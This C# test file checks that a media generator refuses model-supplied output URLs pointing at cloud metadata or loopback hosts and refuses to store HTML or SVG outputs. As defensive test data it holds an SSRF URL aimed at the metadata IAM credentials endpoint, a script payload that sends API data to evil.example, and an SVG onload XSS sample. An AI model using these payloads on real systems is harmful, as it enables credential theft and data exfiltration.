using System.Collections.Concurrent;
using System.Net;
using System.Text;
using System.Text.Json.Nodes;

namespace MediaGen.Generators.Replicate.Tests;

/// <summary>
/// A model chooses its output URLs and data URIs: an internal address is never fetched, and an output is never stored
/// as a type a browser would run (HTML, SVG).
/// </summary>
public sealed class ReplicateOutputSafetyTests : FakeServerTests<FakeReplicateServer>
{
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 1, 2, 3];

    protected override Task<FakeReplicateServer> StartServerAsync() => FakeReplicateServer.StartAsync();

    [Fact]
    public async Task GenerateAsync_OutputUrlOnALinkLocalAddress_IsNotFetched_AndThatOutputFailsPermanently()
    {
        using var handler = new RewritingHandler(_ => new JsonArray("http://169.254.169.254/latest/meta-data/iam/security-credentials/worker-role"));
        using var http = new HttpClient(handler) { Timeout = Timeout.InfiniteTimeSpan };
        var generator = TestSupport.Generator(Server, http);

        var result = await generator.GenerateAsync(TestSupport.Context(generator, TestSupport.Job()));
        foreach (var output in result.Outputs)
        {
            await GeneratedOutputs.ReadAllAsync(output);
        }

        Assert.DoesNotContain(handler.Requested, u => u.Host == "169.254.169.254");
        Assert.Empty(result.Outputs);
        var failure = Assert.Single(result.FailedOutputs);
        Assert.Equal(0, failure.Index);
        Assert.Equal(MediaGenErrorCodes.GeneratorPermanent, failure.Code);
        Assert.Contains("169.254.169.254", failure.Message, StringComparison.Ordinal);
        Assert.Contains("non-public address", failure.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task GenerateAsync_OutputUrlOnALoopbackName_IsRefused_UnlessTheHostIsAllowListed()
    {
        // The same file the fake serves, named by "localhost" rather than the API's own host (127.0.0.1).
        using var handler = new RewritingHandler(current => new JsonArray(current!.AsArray().Select(u => (JsonNode?)JsonValue.Create(u!.GetValue<string>().Replace("127.0.0.1", "localhost", StringComparison.Ordinal))).ToArray()));
        using var http = new HttpClient(handler) { Timeout = Timeout.InfiniteTimeSpan };

        var refusing = TestSupport.Generator(Server, http);
        var refused = await refusing.GenerateAsync(TestSupport.Context(refusing, TestSupport.Job()));
        Assert.Empty(refused.Outputs);
        Assert.Contains("loopback host", Assert.Single(refused.FailedOutputs).Message, StringComparison.Ordinal);

        var allowing = TestSupport.Generator(Server, http, o => o.AllowedNonPublicOutputHosts.Add("localhost"));
        var result = await allowing.GenerateAsync(TestSupport.Context(allowing, TestSupport.Job()));
        var output = Assert.Single(result.Outputs);
        Assert.Empty(result.FailedOutputs);
        Assert.Equal("image/webp", output.ContentType);
        Assert.Equal(FakeReplicateServer.OutputBytes("pred0002fake", 0, Server.OutputSize), await GeneratedOutputs.ReadAllAsync(output));
    }

    [Fact]
    public async Task GenerateAsync_DataUriOutputDeclaringHtml_IsRefusedNotStoredAsHtml()
    {
        var html = Convert.ToBase64String(Encoding.UTF8.GetBytes("<script>fetch('/api/v1/credits').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script>"));
        using var handler = new RewritingHandler(_ => new JsonArray($"data:text/html;base64,{html}"));
        using var http = new HttpClient(handler) { Timeout = Timeout.InfiniteTimeSpan };
        var generator = TestSupport.Generator(Server, http);

        var result = await generator.GenerateAsync(TestSupport.Context(generator, TestSupport.Job()));

        Assert.All(result.Outputs, o => Assert.StartsWith("image/", o.ContentType, StringComparison.Ordinal));
        Assert.Empty(result.Outputs);
        var failure = Assert.Single(result.FailedOutputs);
        Assert.Equal(MediaGenErrorCodes.GeneratorPermanent, failure.Code);
        Assert.Contains("'text/html'", failure.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("image/svg+xml")]
    [InlineData("text/html")]
    [InlineData("image/png")]
    public async Task GenerateAsync_DataUriOutputHoldingAPng_IsStoredAsPngWhateverItDeclares(string declared)
    {
        using var handler = new RewritingHandler(_ => new JsonArray($"data:{declared};base64,{Convert.ToBase64String(Png)}"));
        using var http = new HttpClient(handler) { Timeout = Timeout.InfiniteTimeSpan };
        var generator = TestSupport.Generator(Server, http);

        var result = await generator.GenerateAsync(TestSupport.Context(generator, TestSupport.Job()));

        var output = Assert.Single(result.Outputs);
        Assert.Equal("image/png", output.ContentType);
        Assert.Equal(Png, await GeneratedOutputs.ReadAllAsync(output));
    }

    [Fact]
    public async Task GenerateAsync_DataUriOutputDeclaringSvg_WithoutImageBytes_IsRefused()
    {
        var svg = Convert.ToBase64String(Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"/>"));
        using var handler = new RewritingHandler(_ => new JsonArray($"data:image/svg+xml;base64,{svg}"));
        using var http = new HttpClient(handler) { Timeout = Timeout.InfiniteTimeSpan };
        var generator = TestSupport.Generator(Server, http);

        var result = await generator.GenerateAsync(TestSupport.Context(generator, TestSupport.Job()));

        Assert.Empty(result.Outputs);
        Assert.Contains("'image/svg+xml'", Assert.Single(result.FailedOutputs).Message, StringComparison.Ordinal);
    }

    /// <summary>
    /// Passes calls to the fake, replacing a finished prediction's "output" with what a model chose to return, and serves
    /// any request to 169.254.169.254 as a cloud metadata service would. Records every URL requested through it.
    /// </summary>
    private sealed class RewritingHandler(Func<JsonNode?, JsonNode?> output) : DelegatingHandler(new SocketsHttpHandler())
    {
        public ConcurrentQueue<Uri> Requested { get; } = new();

        protected override async Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken)
        {
            Requested.Enqueue(request.RequestUri!);
            if (request.RequestUri!.Host == "169.254.169.254")
            {
                return new HttpResponseMessage(HttpStatusCode.OK) { Content = new StringContent("{\"AccessKeyId\":\"ASIA...\",\"SecretAccessKey\":\"...\"}") };
            }

            var response = await base.SendAsync(request, cancellationToken);
            if (response.Content.Headers.ContentType?.MediaType == "application/json" && request.RequestUri.AbsolutePath.StartsWith("/v1/predictions", StringComparison.Ordinal))
            {
                var body = JsonNode.Parse(await response.Content.ReadAsStringAsync(cancellationToken)) as JsonObject;
                if (body?["output"] is { } current)
                {
                    body["output"] = output(current.DeepClone());
                }

                response.Content = new StringContent(body?.ToJsonString() ?? "null", Encoding.UTF8, "application/json");
            }

            return response;
        }
    }
}
